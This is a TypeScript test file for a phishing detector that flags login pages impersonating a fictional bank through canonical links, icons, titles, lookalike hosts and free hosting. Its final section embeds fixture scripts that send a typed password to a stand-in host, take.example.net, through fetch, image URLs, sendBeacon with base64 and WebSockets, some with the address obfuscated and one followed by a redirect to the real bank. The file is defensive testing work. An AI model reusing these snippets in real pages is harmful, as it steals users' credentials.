import { describe, expect, test } from 'bun:test'
import { grade } from '../../../../src/trust/grade.ts'
import { FOREIGN_IDENTITY_TABLE } from '../../../../src/trust/judge/credentials/foreign-identity.ts'
import { captureOf } from '../../captures.ts'
import { rules } from '../page-subject.ts'

const PASSWORD = '<form method=post action="/next"><input name=u><input type=password name=p></form>'
const at = (body: string, url = 'https://qwertz.example/login') =>
  rules(FOREIGN_IDENTITY_TABLE, body, { url })

const CANONICAL = '<link rel=canonical href="https://my.nordhavn-bank.example/">'
const ICON = '<link rel=icon href="https://nordhavn-bank.example/favicon.ico">'
const TITLE = '<title>Nordhavn Bank</title>'
const COPYRIGHT = '<p>© 2026 Nordhavn Bank A/S</p>'
const LOGO = '<img src="https://nordhavn-bank.example/logo.svg" alt="Nordhavn Bank">'

describe('a page for a password that no list knows', () => {
  test.each([
    ['has the canonical address, icon and name of another site', CANONICAL + ICON + TITLE],
    [
      'has the og:url, names and address of another site',
      `<meta property=og:url content="https://nordhavn-bank.example/">${TITLE}${COPYRIGHT}<p>nordhavn-bank.example</p>`,
    ],
    [
      'has the canonical address of another site and links to it',
      `${CANONICAL}${COPYRIGHT}<a href="https://nordhavn-bank.example/a">A</a><a href="https://nordhavn-bank.example/b">B</a>`,
    ],
  ])('%s: it gives itself out as that site', (_, head) => {
    expect(at(head + PASSWORD)).toEqual(['content.foreign_identity'])
  })

  test('has the icon, picture and name of another site: that is a weak sign', () => {
    expect(at(TITLE + ICON + LOGO + PASSWORD)).toEqual(['content.foreign_names'])
  })

  test('has the files of another site alone: that is one, but for a page to be read that asks in passing [T13]', () => {
    const files = `${ICON}<img src="https://nordhavn-bank.example/a.svg"><link rel=stylesheet href="https://nordhavn-bank.example/a.css">`
    const links = [1, 2, 3, 4].map((page) => `<a href=/${page}>More</a>`).join('')
    const article = `${links}<p>${'Bread is made of flour, water, salt and time. '.repeat(60)}</p>`
    expect(at(files + PASSWORD)).toEqual(['content.foreign_names'])
    expect(at(files + article + PASSWORD)).toEqual([])
    expect(at(files + TITLE + article + PASSWORD)).toEqual(['content.foreign_names'])
    expect(at(CANONICAL + ICON + TITLE + article + PASSWORD)).toEqual(['content.foreign_names'])
  })

  test.each([
    ['that costs nothing', 'https://qwertz-pay.pages.dev/'],
    ['that is thrown away after one fraud', 'https://qwertz-pay.top/'],
  ])('has them at a host %s: that is proof where it asks for a card', (_, url) => {
    const card = '<form action=/next><input name=cardnumber><input name=cvv></form>'
    expect(at(TITLE + ICON + LOGO + card, url)).toEqual(['content.foreign_identity'])
    expect(at(TITLE + ICON + LOGO + PASSWORD, url)).toEqual(['content.foreign_names'])
    expect(at(TITLE + ICON + LOGO + card)).toEqual(['content.foreign_names'])
  })

  test('has the address of another site in its host, spelled with hyphens, and its name', () => {
    const spelled = 'https://nordhavn-com.share-719.example/login'
    const staging = 'https://nordhavn-com.pages.dev/login'
    const body = `<title>Nordhavn</title>${PASSWORD}`
    expect(at(body, spelled)).toEqual(['content.foreign_identity'])
    expect(at(`<title>Sign in</title>${PASSWORD}`, spelled)).not.toContain('content.foreign_identity')
    expect(at(body, staging)).toEqual([])
  })

  test('has files, links and the name of another site, at a host that costs nothing', () => {
    const links =
      '<a href="https://nordhavn-bank.example/a">A</a><a href="https://nordhavn-bank.example/b">B</a>'
    expect(at(ICON + LOGO + links + PASSWORD, 'https://qwertz-1.pages.dev/')).toEqual([
      'content.foreign_identity',
    ])
    expect(at(ICON + links + PASSWORD, 'https://qwertz-1.pages.dev/')).toEqual(['content.foreign_names'])
  })

  test.each([
    ['says so without asking', CANONICAL + ICON + TITLE, 'https://qwertz.example/login'],
    ['is on the site itself', CANONICAL + ICON + TITLE + PASSWORD, 'https://login.nordhavn-bank.example/'],
    [
      'is on the same name in another country',
      CANONICAL + ICON + TITLE + PASSWORD,
      'https://nordhavn-bank.test/',
    ],
    [
      'is on a longer name of the same company',
      CANONICAL + ICON + TITLE + PASSWORD,
      'https://nordhavn-bank-privat.example/',
    ],
    [
      'is on the same name without its hyphen',
      CANONICAL + ICON + TITLE + PASSWORD,
      'https://nordhavnbank.example/',
    ],
    [
      'is on its name, which the other site writes together',
      `${CANONICAL.replace('nordhavn-bank', 'eurobank')}<title>E-Urobank</title>${PASSWORD}`,
      'https://e-urobank.example/',
    ],
    [
      'is on the same hyphenated name in another country, which it writes together',
      `${CANONICAL.replace('nordhavn-bank', 'my-nordhavn')}<title>MyNordhavn</title>${PASSWORD}`,
      'https://my-nordhavn.test/',
    ],
    [
      'is on the same name in two words, the first of them short',
      `${CANONICAL.replace('nordhavn-bank', 'mypostcard')}<title>MyPostcard</title>${PASSWORD}`,
      'https://my-postcard.example/',
    ],
    [
      'is on a longer name with its umlaut spelled out',
      `${(CANONICAL + ICON).replaceAll('nordhavn-bank', 'moellerbank')}<title>Möllerbank Privat</title>${PASSWORD}`,
      'https://moellerbank-privat.example/',
    ],
    [
      'is on a longer name whose dotless i is spelled with a dot',
      `${(CANONICAL + ICON).replaceAll('nordhavn-bank', 'balikesir')}<title>Balıkesir Su</title>${PASSWORD}`,
      'https://balikesir-su.example/',
    ],
    [
      'sends the password to that site',
      CANONICAL + ICON + TITLE + PASSWORD.replace('/next', 'https://nordhavn-bank.example/in'),
      'https://qwertz.example/login',
    ],
    [
      'is a dealer that names itself',
      `<title>Tømrer Hansen</title>${ICON}${LOGO}<p>© 2026 Tomrerhansen</p>${PASSWORD}`,
      'https://tomrerhansen.example/login',
    ],
    [
      'links to the maker of its software',
      `<title>Login</title><p>Powered by <a href="https://nordhavn-bank.example/">Nordhavn</a></p>${PASSWORD}`,
      'https://intranet.example/',
    ],
    [
      'has the canonical address of its own domain, on a platform',
      `<link rel=canonical href="https://birkelund.example/">${TITLE}${PASSWORD}`,
      'https://birkelund.vercel.app/login',
    ],
    [
      'has the addresses of one owner',
      `<link rel=canonical href="https://www.office.com/"><link rel=icon href="https://www.office.com/i.ico"><title>Office</title>${PASSWORD}`,
      'https://login.live.com/',
    ],
    [
      'leads to an identity provider',
      `<link rel=canonical href="https://example.okta.com/"><title>Okta</title>${PASSWORD}`,
      'https://qwertz.example/login',
    ],
  ])('%s: nothing is found', (_, body, url) => {
    expect(at(body, url)).toEqual([])
  })

  test('lets the page of a word that frauds add be no other company', () => {
    expect(at(CANONICAL + ICON + TITLE + PASSWORD, 'https://nordhavn-bank-login.example/')).toEqual([
      'content.foreign_identity',
    ])
  })
})

describe('a page on a misspelled name of the site whose canonical address it has', () => {
  test.each([
    ['a hyphen within a word', 'n-ordhavnbank.example', TITLE],
    ['another hyphen within a word', 'nordha-vnbank.example', TITLE],
    ['a hyphen within the name of that site alone', 'no-rdhavnbank.example', ''],
    ['a letter too many beside the name', 'bannknordhavn.example', '<title>Bank Nordhavn</title>'],
  ])('%s: it gives itself out as that site', (_, host, title) => {
    const site = title.includes('Bank Nordhavn') ? 'nordhavn' : 'nordhavnbank'
    const head = (CANONICAL + ICON).replaceAll('nordhavn-bank', site)
    expect(at(head + title + COPYRIGHT + PASSWORD, `https://${host}/`)).toEqual(['content.foreign_identity'])
  })
})

describe('a copy of another site that has no canonical address', () => {
  const COPY = TITLE + ICON + LOGO + COPYRIGHT

  test.each([
    ['is on a free tenant', COPY + PASSWORD, 'https://qwertz.vercel.app/'],
    [
      'sends what it is given to a third site',
      COPY + PASSWORD.replace('/next', 'https://take.example.net/in'),
      'https://qwertz.example/',
    ],
  ])('%s: it gives itself out as that site', (_, body, url) => {
    expect(at(body, url)).toEqual(['content.foreign_identity'])
  })

  test.each([
    ['the name and a word of sales', 'https://nordhavn-bank-sale.example/'],
    ['the name below a domain that much phishing is on', 'https://nordhavn-bank.icu/'],
  ])('is on %s: it is no sister of that site', (_, url) => {
    expect(at(COPY + PASSWORD, url)).toEqual(['content.foreign_names'])
  })

  test('asks for a number first: that is a weak sign', () => {
    const step = '<form action=/next><input type=tel name=mobile><button>Continue</button></form>'
    expect(at(CANONICAL + COPY + step)).toEqual(['content.foreign_names'])
    expect(at(COPY + step)).toEqual([])
  })

  test('asks for a number to sign in with: it gives itself out as that site', () => {
    const step =
      '<form action=/next><h1>Log in</h1><input type=tel name=mobile><button>Continue</button></form>'
    expect(at(CANONICAL + COPY + step)).toEqual(['content.foreign_identity'])
  })
})

describe('what a person presses', () => {
  const page = (code: string, names = TITLE) =>
    `${names}<form onsubmit="return false"><input name=u><input type=password name=pw><button id=b>Log in</button></form>
<script>document.getElementById('b').addEventListener('click', function () { ${code} })</script>`
  const signals = (body: string) => grade(captureOf('https://qwertz.example/', { body })).signals
  const ids = (body: string) => signals(body).map(({ id }) => id)
  const SENT = "fetch('https://take.example.net/in', {method: 'POST', body: JSON.stringify({pw: ''})})"

  test('sends the password to another site, and then leads to the site that the page names', () => {
    const found = signals(
      page(
        `${SENT}.then(function () { location.href = 'https://nordhavn-bank.example/' })`,
        TITLE + COPYRIGHT + LOGO,
      ),
    )
    expect(found.map(({ id }) => id)).toEqual(
      expect.arrayContaining([
        'content.foreign_identity',
        'content.collect_and_leave',
        'content.form_cross_site',
      ]),
    )
    const left = found.find(({ id }) => id === 'content.collect_and_leave')
    expect(left?.evidence).toMatchObject({ at: 'act[1]', seen: 'https://nordhavn-bank.example/' })
  })

  test('opens a socket, over which it has sent nothing when it leads to the site that it names', () => {
    const code = "new WebSocket('wss://chat.example.net/'); location.href = 'https://nordhavn-bank.example/'"
    expect(ids(page(code, TITLE + COPYRIGHT + LOGO))).not.toContain('content.collect_and_leave')
  })

  test.each([
    ['in the body of a request', SENT, 'act[0]'],
    ['in the address of a picture', "new Image().src = 'https://take.example.net/p?pw='", 'act[0]'],
    [
      'in base64',
      "navigator.sendBeacon('https://take.example.net/', btoa(JSON.stringify({u: '', pw: ''})))",
      'act[0]',
    ],
    [
      'over a socket, once that is open',
      `const s = new WebSocket('wss://take.example.net/'); s.onopen = function () {
        if (s.readyState === WebSocket.OPEN) s.send(JSON.stringify({pw: ''})) }`,
      'act[1]',
    ],
  ])('sends the password to another site %s', (_, code, place) => {
    const hidden = code.replace(
      /(https|wss):\/\/take\.example\.net/,
      "' + ['$1:/', 'take.example.net'].join('/') + '",
    )
    const sent = signals(page(hidden)).find(({ id }) => id === 'content.form_cross_site')
    expect(sent?.evidence.at).toBe(place)
  })

  test.each([
    [
      'counts the press on another site',
      "fetch('https://count.example.net/', {method: 'POST', body: 'event=press'})",
    ],
    ['sends the password to its own site', "fetch('/in', {method: 'POST', body: 'pw='})"],
    [
      'sends and leads to its own account page',
      "fetch('/in', {method: 'POST', body: 'pw='}).then(function () { location = '/account' })",
    ],
  ])('%s: nothing is found', (_, code) => {
    expect(ids(page(code))).not.toContain('content.form_cross_site')
    expect(ids(page(code))).not.toContain('content.collect_and_leave')
  })
})
